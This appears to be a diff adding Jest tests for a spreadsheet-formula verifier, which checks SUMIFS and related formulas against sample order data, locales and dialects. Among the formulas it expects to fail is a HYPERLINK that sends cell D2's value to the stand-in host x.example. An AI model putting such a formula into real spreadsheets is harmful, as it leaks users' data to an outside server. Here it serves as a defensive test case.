@@ -1,0 +1,188 @@
+// What a formula's verdict is measured by: the data, the question, the examples, and the formula itself.
+import { afterAll, beforeAll, expect, test } from "@jest/globals";
+import type { Request } from "../src/domain/verify/stated.ts";
+import { type Verify, verifying } from "../src/domain/verify.ts";
+import { type Runner, runner } from "../src/workers/runner.ts";
+
+let threads: Runner;
+let verify: Verify;
+beforeAll(() => {
+  threads = runner(1);
+  verify = verifying(threads);
+});
+afterAll(() => threads.close());
+
+const orders = [
+  "Order\tRegion\tStatus\tAmount\tShare",
+  "A-1\tNorth\tPaid\t120",
+  "A-2\tSouth\tOpen\t80",
+  "A-3\tNorth\tOpen\t45",
+  "A-4\tEast\tPaid\t200",
+  "A-5\tNorth\tPaid\t60",
+].join("\n");
+const total: Request = {
+  question: 'Sum of Amount where Region is "North" and Status is "Paid"',
+  data: orders,
+};
+const right = '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")';
+
+test("a right formula is verified on the data, with the sheet, its value and its steps", async () => {
+  const found = await verify(right, total);
+
+  expect(found).toMatchObject({ formula: right, verdict: "verified", problems: [] });
+  expect(found.run).toMatchObject({ value: 180, isMade: false });
+  expect(found.run?.sheets[0]?.rows[1]).toEqual(["A-1", "North", "Paid", 120]);
+  expect(found.steps?.at(-1)).toMatchObject({ component: "SUMIFS", value: 180 });
+  expect(found.edges).toContainEqual({ kind: "no-match", value: 0 });
+  expect(found.worksIn).toMatchObject({ excel: "2007", sheets: true });
+});
+
+const wrong: [string, string, Request?][] = [
+  ["a parenthesis is missing", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"Paid"'],
+  ["a function is invented", '=SUMWHEN(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
+  ["it is in prose", "Add the paid amounts of the North."],
+  ["a criterion is left out", '=SUMIFS(D2:D6,B2:B6,"North")'],
+  ["another value is chosen", '=SUMIFS(D2:D6,B2:B6,"South",C2:C6,"Paid")'],
+  ["a criterion is turned round", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"<>Paid")'],
+  ["a range misses the last row", '=SUMIFS(D2:D5,B2:B5,"North",C2:C5,"Paid")'],
+  ["ranges begin in different rows", '=SUMIFS(D2:D6,B1:B5,"North",C2:C6,"Paid")'],
+  ["the criterion stands in another column", '=SUMIFS(D2:D6,A2:A6,"North",C2:C6,"Paid")'],
+  ["the summed column holds texts", '=SUMIFS(A2:A6,B2:B6,"North",C2:C6,"Paid")'],
+  ["quotes are missing", '=SUMIFS(D2:D6,B2:B6,North,C2:C6,"Paid")'],
+  ["it averages", '=AVERAGEIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
+  ["the result is written down", "=180"],
+  ["conditions are added", '=SUMIF(B2:B6,"North",D2:D6)+SUMIF(C2:C6,"Paid",D2:D6)'],
+  ["it brings an address", `=HYPERLINK("https://x.example/?q="&D2,"${"North Paid"}")`],
+  ["it is in another language", '=SOMME.SI.ENS(D2:D6;B2:B6;"North";C2:C6;"Paid")'],
+  [
+    "the range holds its own cell",
+    "=SUM(D2:D7)",
+    { question: "Total of Amount. It goes into D7", data: orders },
+  ],
+  ["a range moves", "=D2/SUM(D2:D6)", { question: "Share of Amount in the total, in E2:E6", data: orders }],
+  [
+    "a cell stays",
+    "=$D$2/SUM($D$2:$D$6)",
+    { question: "Share of Amount in the total, in E2:E6", data: orders },
+  ],
+  ["it looks up nearly", '=VLOOKUP("A-4",A2:D6,4)', { question: 'Amount of order "A-4"', data: orders }],
+  [
+    "a limit is compared otherwise",
+    '=COUNTIF(D2:D6,">80")',
+    { question: "How many amounts are at least 80?", data: orders },
+  ],
+  [
+    "a number is in quotes",
+    '=IF(D2>="100","big","small")',
+    { question: 'E2:E6: "big" if Amount is at least 100, otherwise "small"', data: orders },
+  ],
+  [
+    "the branches are swapped",
+    '=IF(D2>=100,"small","big")',
+    { question: 'E2:E6: "big" if Amount is at least 100, otherwise "small"', data: orders },
+  ],
+  [
+    "an error arises in a row",
+    "=D2/(D2-80)",
+    { question: "In E2:E6 Amount by Amount less 80", data: orders },
+  ],
+];
+
+test.each(wrong)("a formula fails where %s", async (_why, formula, request = total) => {
+  const { verdict, problems } = await verify(formula, request);
+
+  expect(verdict).toBe("failed");
+  expect(problems.length).toBeGreaterThan(0);
+  for (const { start, end } of problems) expect(end).toBeGreaterThanOrEqual(start);
+});
+
+const sound: [string, string, Request][] = [
+  ["whole columns", '=SUMIFS(D:D,B:B,"North",C:C,"Paid")', total],
+  [
+    "a share of the whole",
+    "=D2/SUM($D$2:$D$6)",
+    { question: "Share of Amount in the total, in E2:E6", data: orders },
+  ],
+  ["an exact look-up", '=XLOOKUP("A-4",A2:A6,D2:D6)', { question: 'Amount of order "A-4"', data: orders }],
+  ["a running total", "=SUM($D$2:D2)", { question: "Running total of Amount in E2:E6", data: orders }],
+  [
+    "a question in German",
+    '=COUNTIF(D2:D6,">=80")',
+    { question: "Wie viele Beträge sind mindestens 80?", data: orders },
+  ],
+];
+
+test.each(sound)("%s is verified", async (_what, formula, request) => {
+  const { verdict, problems } = await verify(formula, request);
+
+  expect([verdict, problems]).toEqual(["verified", []]);
+});
+
+test("without data a formula is run on made-up data, and says so", async () => {
+  const found = await verify('=SUMIFS(C:C,A:A,"Paid")', { question: "Sum of what is paid" });
+
+  expect(found.verdict).toBe("verified");
+  expect(found.run?.isMade).toBe(true);
+  expect(found.run?.value).not.toBe(0);
+});
+
+test("a formula is shown as the person writes: German names, semicolons, decimal commas", async () => {
+  const german = { dialect: "excel", locale: { functionLanguage: "de", separator: ";" } } as const;
+  const request: Request = { ...german, question: "Verdoppeln" };
+
+  expect((await verify("=IF(A1>1.5,A1*2,0)", request)).formula).toBe("=WENN(A1>1,5;A1*2;0)");
+  expect((await verify("=WENN(A1>1,5;A1*2;0)", request)).formula).toBe("=WENN(A1>1,5;A1*2;0)");
+  expect((await verify("=IF(A1>1;A1*2;0)", request)).formula).toBe("=WENN(A1>1;A1*2;0)");
+});
+
+test("what only Excel has is said otherwise in Google Sheets, or refused", async () => {
+  const sheets: Request = { dialect: "sheets", question: "Split" };
+
+  const found = await verify('=TEXTBEFORE(A2,"-")', sheets);
+
+  expect(found.verdict).not.toBe("failed");
+  expect(found.formula).not.toContain("TEXTBEFORE");
+  expect((await verify('=CUBEVALUE("x","y")', sheets)).verdict).not.toBe("verified");
+});
+
+test("examples decide: a formula counts only if it reproduces them, and the row that differs is told", async () => {
+  const examples = [
+    { inputs: ["10", "3"], wanted: "30" },
+    { inputs: ["7", "2"], wanted: "14" },
+    { inputs: ["1,5", "2"], wanted: "3" },
+  ];
+  const request: Request = {
+    question: "As in the examples",
+    examples,
+    locale: { functionLanguage: "en", separator: ";" },
+  };
+
+  expect((await verify("=A2*B2", request)).verdict).toBe("verified");
+  const failed = await verify("=A2+B2", request);
+  expect(failed.verdict).toBe("failed");
+  expect(failed.problems[0]?.message).toContain("Example 1 wants 30, but the formula gives 13");
+});
+
+test("a formula that never ends is stopped, and the next one runs", async () => {
+  const endless = "=REDUCE(0,SEQUENCE(100000),LAMBDA(a,b,SUM(SEQUENCE(1000))+a))";
+
+  expect((await verify(endless, { question: "" })).verdict).toBe("checked");
+  expect((await verify("=A1*2", { question: "" })).verdict).toBe("verified");
+});
+
+test("no text makes the check throw", async () => {
+  for (const body of [
+    "",
+    "=",
+    "={}",
+    "=\u0000",
+    "=A1:",
+    `=${"(".repeat(5_000)}`,
+    "=__proto__",
+    "={1,2",
+    "=LET(a,)",
+  ])
+    expect(["failed", "checked", "verified"]).toContain(
+      (await verify(body, { question: body, data: body })).verdict,
+    );
+});
